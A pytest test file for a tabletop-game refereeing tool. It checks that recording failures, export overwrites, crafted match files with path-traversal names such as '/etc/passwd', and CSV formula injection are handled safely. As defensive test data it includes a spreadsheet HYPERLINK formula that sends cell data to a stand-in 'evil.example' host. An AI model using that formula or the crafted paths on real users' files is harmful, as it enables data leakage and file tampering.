"""The match file under attack and accident: a recording that fails mid-game (a full disk, a
deleted folder) never stops the referee; an export never writes over its input or through
a link; a crafted match file is refused in one line, never trusted to name a file; CSV
cells never run as spreadsheet formulas."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from typing import Any

import cv2
import pytest

from tablesight.calibration.script import Script
from tablesight.calibration.setup import Setup
from tablesight.match.export import csv_cell
from tablesight.match.game import Game
from tablesight.match.reader import Match
from tablesight.match.replay import Replay
from tablesight.match.writer import MatchWriter
from tablesight.rules.errors import InputError
from tablesight.rules.session import Event
from tablesight.vision.sources import FileSource, Frame

#: The tests here fill disks, kill and crash writers and run the command line in new processes.
pytestmark = pytest.mark.slow

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "samples" / "necromunda"
CLIP = SAMPLE / "match.mp4"
SETUP_FILES = ("table.toml", "roster.toml", "terrain.toml", "camera.toml")
KEY = ("kind", "rule", "model", "other")


def tablesight_exe() -> list[str]:
    exe = Path(sys.executable).with_name("tablesight")
    return [str(exe)] if exe.exists() else [sys.executable, "-m", "tablesight"]


def sample_setup() -> Setup:
    table, roster, terrain, camera = (SAMPLE / n for n in SETUP_FILES)
    return Setup.load("necromunda", table, roster, terrain, camera)


# -- 1. a recording that fails does not stop the referee ------------------------------------


def drive(folder: Path, wreck: str) -> dict[str, Any]:
    """The sample clip refereed by a Game (as ``analyze --script`` does) while it records
    into ``folder``; ``wreck`` = ``delete``: the folder is deleted at frame 50; ``full``:
    the folder is a small file system that the video fills. What happened, as JSON."""
    setup = sample_setup()
    path = folder / "match.db"
    recorder = MatchWriter(path, setup, source=str(CLIP), min_free_bytes=0)
    script = Script.from_toml(SAMPLE / "session.toml")
    game = Game(setup, FileSource(str(CLIP)), script=script, recorder=recorder)
    told: list[Event] = []
    game.listen(told.append)

    def progress(frame: Frame) -> None:
        if wreck == "delete" and frame.index == 50:
            shutil.rmtree(folder)
            deadline = time.monotonic() + 10
            while recorder.error is None and time.monotonic() < deadline:
                time.sleep(0.01)

    game.run(progress)
    game.close_recorder()
    stopped = [e for e in told if e.kind == "recording_stopped"]
    out: dict[str, Any] = {
        "status": game.status,
        "recorder": game.recorder is not None,
        "failure": game.record_failure,
        "stopped": [(e.id, e.t, e.message) for e in stopped],
        "refereed": [[getattr(e, k) for k in KEY] for e in told if e.kind != "recording_stopped"],
        "after": sum(1 for e in told if stopped and e.id > stopped[0].id),
        "ids": [e.id for e in told],
    }
    if path.exists():
        with Match(path) as match:
            out["integrity"] = match.integrity()
            frames = match.frames()
            out["frames"] = len(frames)
            out["last_t"] = frames[-1].t if frames else None
            out["file_events"] = [[e[k] for k in KEY] for e in match.events(0)]
            out["closed"] = "closed" in match.meta
        with Replay(path) as replay:
            replay.seek(replay.end_t)
            out["replayed_events"] = len(replay.events_since(0))
    return out


def expected_sample_events() -> list[list[Any]]:
    expected = json.loads((SAMPLE / "expected-events.json").read_text())
    return [[e[k] for k in KEY] for e in expected["events"]]


@pytest.mark.slow
def test_deleting_the_folder_mid_game_stops_the_record_once_and_refereeing_goes_on(
    tmp_path: Path,
) -> None:
    folder = tmp_path / "record"
    folder.mkdir()
    got = drive(folder, "delete")
    assert got["status"] == "ended"
    assert got["recorder"] is False
    assert len(got["stopped"]) == 1, got["stopped"]
    _event_id, t, message = got["stopped"][0]
    assert 5.0 <= t < 6.0  # frame 50 of a 10 fps clip, noticed at the next commit
    assert message == (
        f"recording stopped: {folder / 'match.db'}: the match file was deleted or moved "
        "while it was recorded; refereeing goes on without it"
    )
    assert got["failure"] in message
    # every event the referee owes the clip, after the record stopped too, numbered in order
    assert got["refereed"] == expected_sample_events()
    assert got["after"] >= 10
    assert got["ids"] == list(range(len(got["ids"])))
    assert not folder.exists()


def in_mount_namespace(
    tmp_path: Path, mount: str, command: list[str], timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    """``command`` run in a mount namespace of its own with a tmpfs (options ``mount``) on
    ``tmp_path/disk`` (its first argument is that folder); skips without unshare(1)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("no unshare(1) to mount a small file system with")
    disk = tmp_path / "disk"
    disk.mkdir()
    script = 'mount -t tmpfs -o "$1" tmpfs "$2" || exit 77; shift 2; exec "$@"'
    result = subprocess.run(
        [
            unshare,
            "--mount",
            "--map-root-user",
            "sh",
            "-c",
            script,
            "sh",
            mount,
            str(disk),
            *command,
        ],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        capture_output=True,
        text=True,
        timeout=timeout,
    )
    if result.returncode == 77 or result.stderr.startswith("unshare:"):
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.strip()[-200:]}")
    return result


@pytest.mark.slow
def test_a_full_disk_stops_the_record_once_and_what_was_written_stays_valid(
    tmp_path: Path,
) -> None:
    code = (
        "import json, sys\nimport runpy\nfrom pathlib import Path\n"
        "ns = runpy.run_path(sys.argv[1])\n"
        "print(json.dumps(ns['drive'](Path(sys.argv[2]), 'full')))\n"
    )
    disk = tmp_path / "disk"
    # 8 MiB: the video fills it in about 70 frames (110 KB each), so that at least one of the
    # match file's commits (every 0.25 s) lands first however fast the clip is read
    result = in_mount_namespace(
        tmp_path, "size=8m", [sys.executable, "-c", code, __file__, str(disk)]
    )
    assert result.returncode == 0, result.stderr[-3000:]
    got = json.loads(result.stdout.strip().splitlines()[-1])
    assert got["status"] == "ended"
    assert len(got["stopped"]) == 1, got["stopped"]
    _event_id, t, message = got["stopped"][0]
    assert message.startswith(f"recording stopped: {disk / 'match.db'}: ")
    assert "full" in message, message  # SQLite's "database or disk is full"
    assert message.endswith("; refereeing goes on without it")
    assert "Traceback" not in result.stderr
    # refereeing unaffected: every event the clip owes, most of them after the disk filled
    assert got["refereed"] == expected_sample_events()
    assert got["after"] >= 10
    # what was written is a sound, replayable match, up to the moment it stopped
    assert got["integrity"] == "ok"
    assert got["closed"] is False
    assert got["frames"] > 0 and got["last_t"] <= t
    assert got["file_events"] == got["refereed"][: len(got["file_events"])]
    assert got["replayed_events"] == len(got["file_events"])


def short_clip(path: Path, frames: int) -> Path:
    """The sample clip's first ``frames`` frames (10 fps), as a video of its own."""
    capture = cv2.VideoCapture(str(CLIP))
    writer = None
    for _ in range(frames):
        ok, image = capture.read()
        assert ok
        if writer is None:
            size = (image.shape[1], image.shape[0])
            writer = cv2.VideoWriter(str(path), cv2.VideoWriter.fourcc(*"mp4v"), 10.0, size)
        writer.write(image)
    assert writer is not None
    writer.release()
    capture.release()
    return path


@pytest.mark.slow
def test_run_record_on_a_disk_that_fills_up_goes_on_serving_and_exits_0(tmp_path: Path) -> None:
    """The real command on a 120 MB tmpfs (over the 100 MB a match needs to start), filled
    up two seconds into the game."""
    clip = short_clip(tmp_path / "clip.mp4", 150)
    out, err, keep = tmp_path / "out.txt", tmp_path / "err.txt", tmp_path / "kept"
    keep.mkdir()
    setup_args = [f"--{n.removesuffix('.toml')}={SAMPLE / n}" for n in SETUP_FILES]
    run = [
        *tablesight_exe(),
        "run",
        f"--source={clip}",
        "--game=necromunda",
        *setup_args,
        "--port=0",
    ]
    # the record starts, then a file takes every byte left; at the end the record is
    # copied out of the namespace for a look
    script = (
        "disk=$1; out=$2; err=$3; keep=$4; shift 4\n"
        '"$@" --record="$disk/match.db" >"$out" 2>"$err" </dev/null &\n'
        "pid=$!\n"
        'i=0; while [ ! -s "$disk/match.avi" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done\n'
        "sleep 2\n"
        'dd if=/dev/zero of="$disk/fill" bs=1M 2>/dev/null\n'
        'wait $pid; status=$?\nrm -f "$disk/fill"\ncp -a "$disk/." "$keep/"\nexit $status\n'
    )
    disk = tmp_path / "disk"
    unshare = shutil.which("unshare")
    if unshare is None:
        pytest.skip("no unshare(1) to mount a small file system with")
    disk.mkdir()
    mount = 'mount -t tmpfs -o size=120m tmpfs "$2" || exit 77; exec sh -c "$1" "$@"'
    process = subprocess.Popen(
        [
            unshare,
            "--mount",
            "--map-root-user",
            "sh",
            "-c",
            mount,
            "sh",
            script,
            str(disk),
            str(out),
            str(err),
            str(keep),
            *run,
        ],
        cwd=REPO,
        env={**os.environ, "PYTHONPATH": str(REPO)},
    )
    # while it runs: once the record has stopped, the table view still answers
    answered = None
    deadline = time.monotonic() + 120
    while process.poll() is None and time.monotonic() < deadline:
        if answered is None and out.exists() and "recording_stopped" in out.read_text():
            url = re.search(r"table view: (\S+)", err.read_text())
            assert url is not None
            with urllib.request.urlopen(url.group(1), timeout=10) as page:
                answered = page.status
        time.sleep(0.2)
    status = process.wait(timeout=60)
    if status == 77:
        pytest.skip("cannot mount a tmpfs here")
    stdout, stderr = out.read_text(), err.read_text()
    assert status == 0, stderr[-3000:]
    assert "Traceback" not in stderr
    assert answered == 200
    lines = stdout.splitlines()
    stopped = [line for line in lines if "recording stopped" in line]
    assert len(stopped) == 1, stdout
    assert "recording stopped" not in stderr
    assert re.search(
        rf"recording_stopped recording stopped: {re.escape(str(disk))}/match\.db: .*full",
        stopped[0],
    ), stopped[0]
    assert "recorded " not in stderr  # no claim that the whole match was recorded
    # the events went on after it
    assert lines.index(stopped[0]) < len(lines) - 1, stdout
    # what was written is a sound match
    conn = sqlite3.connect(f"file:{keep / 'match.db'}?mode=ro", uri=True)
    assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert conn.execute("SELECT count(*) FROM frames").fetchone()[0] > 0
    conn.close()


# -- a small match file to attack ---------------------------------------------------------


def small_match(
    path: Path, *, model: str = "varg", message: str = "moved", video: bool = False
) -> Path:
    """Ten frames of two models, one event, a snapshot and a journal input; ``model`` and
    ``message`` as given (a formula, say). With ``video``: a two-picture video beside it."""
    setup = sample_setup()
    session = setup.session()
    with MatchWriter(path, setup, video=video, min_free_bytes=0, app_version="9.9.9") as w:
        for k in range(10):
            image = cv2.imread(str(REPO / "samples" / "necromunda" / "markers.pdf"))
            w.frame(
                Frame(image if image is not None else _grey(), k / 10, k),
                {
                    model: (-1.5, 2.0 + k, 90.0, 0.01, "settled"),
                    "kyria": (10.0, 10.0, -45.0, 0.01, "moving"),
                },
                write_image=video and k < 2,
            )
        w.input("set_side", {"side": "goliath"})
        w.event(Event(0.5, 5, "violation", message, "movement", model, "+kyria", -1.5, 4.0, 0.1, 0))
        w.snapshot(0.5, 5, session.snapshot())
    return path


def _grey() -> Any:
    import numpy as np

    return np.full((120, 160, 3), 128, np.uint8)


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*tablesight_exe(), *args], capture_output=True, text=True, timeout=120, cwd=REPO
    )


def one_line(result: subprocess.CompletedProcess[str]) -> str:
    """The command's single ``tablesight: ...`` line on stderr (exit status 2)."""
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("tablesight: "), result.stderr
    return lines[0]


# -- 2. export never destroys data --------------------------------------------------------


def test_export_never_writes_over_the_match_by_any_name(tmp_path: Path) -> None:
    match = small_match(tmp_path / "m.db")
    before = match.read_bytes()
    (tmp_path / "link.json").symlink_to("m.db")
    os.link(match, tmp_path / "hard.json")
    for target in ("m.db", "link.json", "hard.json"):
        for force in ([], ["--force"]):
            line = one_line(cli("export", str(match), "-o", str(tmp_path / target), *force))
            assert "(or a link to it); refusing to write over it" in line, line
    line = one_line(cli("export", str(match), "-o", str(tmp_path / "m.db-wal")))
    assert "is the match's own file m.db-wal" in line, line
    assert match.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.json", "link.json", "m.db"]


def test_export_replaces_an_existing_output_only_with_force_and_never_through_a_link(
    tmp_path: Path,
) -> None:
    match = small_match(tmp_path / "m.db")
    out = tmp_path / "out.json"
    out.write_text("mine")
    line = one_line(cli("export", str(match), "-o", str(out)))
    assert line == f"tablesight: {out}: exists; add --force to replace it"
    assert out.read_text() == "mine"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "linked.json").symlink_to(victim)
    one_line(cli("export", str(match), "-o", str(tmp_path / "linked.json")))
    result = cli("export", str(match), "-o", str(tmp_path / "linked.json"), "--force")
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "keep me"  # the link was replaced, not written through
    assert not (tmp_path / "linked.json").is_symlink()
    assert json.loads((tmp_path / "linked.json").read_text())["format"] == "tablesight-match"
    result = cli("export", str(match), "-o", str(out), "--force")
    assert result.returncode == 0 and json.loads(out.read_text())["version"] == 1
    # CSV: both files are checked before either is written
    (tmp_path / "m-tracks.csv").write_text("mine")
    one_line(cli("export", str(match), "--format=csv"))
    assert not (tmp_path / "m-events.csv").exists()


def test_export_into_a_folder_or_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    match = small_match(tmp_path / "m.db")
    assert one_line(cli("export", str(match), "-o", str(tmp_path))) == (
        f"tablesight: {tmp_path}: is a folder; -o names the file to write"
    )
    missing = tmp_path / "no" / "x.json"
    assert one_line(cli("export", str(match), "-o", str(missing))) == (
        f"tablesight: {missing}: no such folder {missing.parent}"
    )


def test_export_leaves_nothing_but_its_outputs_beside_the_match(tmp_path: Path) -> None:
    match = small_match(tmp_path / "m.db")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.db"]
    for fmt in ("json", "csv"):
        result = cli("export", str(match), f"--format={fmt}")
        assert result.returncode == 0, result.stderr
    # no -wal, -shm or half-written temporary file
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "m-events.csv",
        "m-tracks.csv",
        "m.db",
        "m.json",
    ]


# -- 3. a crafted match file is refused, never trusted ------------------------------------


def set_meta(path: Path, key: str, value: str) -> None:
    conn = sqlite3.connect(path)
    conn.execute("INSERT OR REPLACE INTO meta (key, value) VALUES (?, ?)", (key, value))
    conn.commit()
    conn.close()


def test_a_stored_video_name_never_deletes_a_file(tmp_path: Path) -> None:
    match = small_match(tmp_path / "m.db")
    set_meta(match, "video", json.dumps("victim.txt"))
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    frames = tmp_path / "frames"
    frames.mkdir()
    cv2.imwrite(str(frames / "0.png"), _grey())
    table, roster, terrain, camera = (SAMPLE / n for n in SETUP_FILES)
    result = cli(
        "analyze",
        str(frames),
        "--game=necromunda",
        f"--table={table}",
        f"--roster={roster}",
        f"--terrain={terrain}",
        f"--camera={camera}",
        "-o",
        str(match),
    )
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "keep me"
    assert Match(match).meta["video"] is None  # the crafted match was replaced


@pytest.mark.parametrize(
    "name", ["victim.txt", "a/b.avi", "/etc/passwd", "../m.avi", ".avi", 123, ["m.avi"], {}]
)
def test_a_crafted_video_name_is_one_line_in_replay_and_export(
    tmp_path: Path, name: object
) -> None:
    match = small_match(tmp_path / "m.db")
    set_meta(match, "video", json.dumps(name))
    expected = (
        f"{match}: meta video: expected null or a file name beside it ending in .avi, "
        f"got {json.dumps(name)}"
    )
    with pytest.raises(InputError) as caught:
        Replay(match)
    assert str(caught.value) == expected
    assert one_line(cli("export", str(match))) == f"tablesight: {expected}"


CRAFTED: list[tuple[str, str, str]] = [
    ("meta game", "UPDATE meta SET value = '5' WHERE key = 'game'", "meta game: expected"),
    ("meta fps", "UPDATE meta SET value = '\"fast\"' WHERE key = 'fps'", "meta fps: expected"),
    ("meta fps 0", "UPDATE meta SET value = '0' WHERE key = 'fps'", "meta fps: expected"),
    ("meta schema", "UPDATE meta SET value = '[1]' WHERE key = 'schema'", "meta schema:"),
    ("meta not json", "UPDATE meta SET value = '{' WHERE key = 'table'", "meta table: not valid"),
    ("meta roster", "UPDATE meta SET value = '\"x\"' WHERE key = 'roster'", "meta roster:"),
    ("meta ruleset", "UPDATE meta SET value = '{}' WHERE key = 'ruleset'", "meta ruleset"),
    ("meta table", "UPDATE meta SET value = '{\"a\": 1}' WHERE key = 'table'", "meta table"),
    (
        "meta camera",
        "UPDATE meta SET value = '{\"image_size\": 3}' WHERE key = 'camera'",
        "meta camera",
    ),
    (
        "meta terrain",
        "UPDATE meta SET value = '[{\"id\": 1}]' WHERE key = 'terrain'",
        "meta terrain",
    ),
    ("frame t", "UPDATE frames SET t = 'soon' WHERE id = 3", "frames id 3: t: not valid"),
    (
        "frame number",
        "UPDATE frames SET source_index = 2.5 WHERE id = 4",
        "frames id 4: source_index",
    ),
    ("video frame", "UPDATE frames SET video_frame = -1 WHERE id = 1", "frames id 1: video_frame"),
    ("pose", "UPDATE poses SET x_in = 'left' WHERE frame = 2", "poses frame 2: x_in"),
    ("pose state", "UPDATE poses SET state = 'gone' WHERE frame = 2", "poses frame 2: state"),
    ("event kind", "UPDATE events SET kind = 'boom'", "events id 0: kind: not valid"),
    ("event rule", "UPDATE events SET rule = 'x'", "events id 0: rule"),
    ("event number", "UPDATE events SET measured = 'far'", "events id 0: measured"),
    ("event message", "UPDATE events SET message = x'00ff'", "events id 0: message"),
    ("snapshot json", "UPDATE snapshots SET state = '[1]'", "snapshots id 1: state"),
    ("snapshot shape", "UPDATE snapshots SET state = '{\"turn\": 1}'", "snapshots: the one at"),
    (
        "snapshot events",
        "UPDATE snapshots SET state = json_set(state, '$.events', 'x')",
        "snapshots: the one at",
    ),
    ("input kind", "UPDATE inputs SET kind = 'format_disk'", "inputs id 1: kind"),
    ("input args", "UPDATE inputs SET args = '[]'", "inputs id 1: args"),
    ("input values", "UPDATE inputs SET args = '{\"colour\": 1}'", "inputs"),
]


@pytest.mark.parametrize(("what", "sql", "says"), CRAFTED, ids=[c[0] for c in CRAFTED])
def test_every_value_read_from_a_match_file_is_checked(
    tmp_path: Path, what: str, sql: str, says: str
) -> None:
    match = small_match(tmp_path / "m.db")
    conn = sqlite3.connect(match)
    conn.execute(sql)
    conn.commit()
    conn.close()
    with pytest.raises(InputError) as caught, Replay(match) as replay:
        # scrubbed through, as a judge would: a pose is checked when its frame is read
        for t in [*replay.times, replay.end_t]:
            replay.seek(t)
    line = str(caught.value)
    assert line.startswith(f"{match}: ") and says in line, line
    assert "\n" not in line


def test_a_crafted_match_is_one_line_from_replay_on_the_command_line(tmp_path: Path) -> None:
    match = small_match(tmp_path / "m.db")
    set_meta(match, "video", json.dumps("/etc/passwd"))
    line = one_line(cli("replay", str(match), "--no-browser", "--port=0"))
    assert line.startswith(f"tablesight: {match}: meta video: ")


# -- 4. CSV cells are never formulas ------------------------------------------------------


def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    match = small_match(tmp_path / "m.db", model="@SUM(A1)", message=formula)
    result = cli("export", str(match), "--format=csv")
    assert result.returncode == 0, result.stderr
    with (tmp_path / "m-events.csv").open(newline="") as f:
        (event,) = list(csv.DictReader(f))
    assert event["message"] == "'" + formula
    assert event["model"] == "'@SUM(A1)"
    assert event["other"] == "'+kyria"
    assert event["measured"] == "-1.5"  # a number, negative, stays a number
    assert event["limit"] == "4.0"
    with (tmp_path / "m-tracks.csv").open(newline="") as f:
        tracks = list(csv.DictReader(f))
    mine = [r for r in tracks if r["model"] == "'@SUM(A1)"]
    assert len(mine) == 10 and {r["x_in"] for r in mine} == {"-1.5"}
    assert {r["heading_deg"] for r in tracks if r["model"] == "kyria"} == {"-45.0"}
    for cell in ("-cmd", "+1", "=1", "@x", "\tx", "\rx"):
        assert csv_cell(cell) == "'" + cell
    for value in (-1.5, -2, 0.0, "a-b", "", None):
        assert csv_cell(value) == value
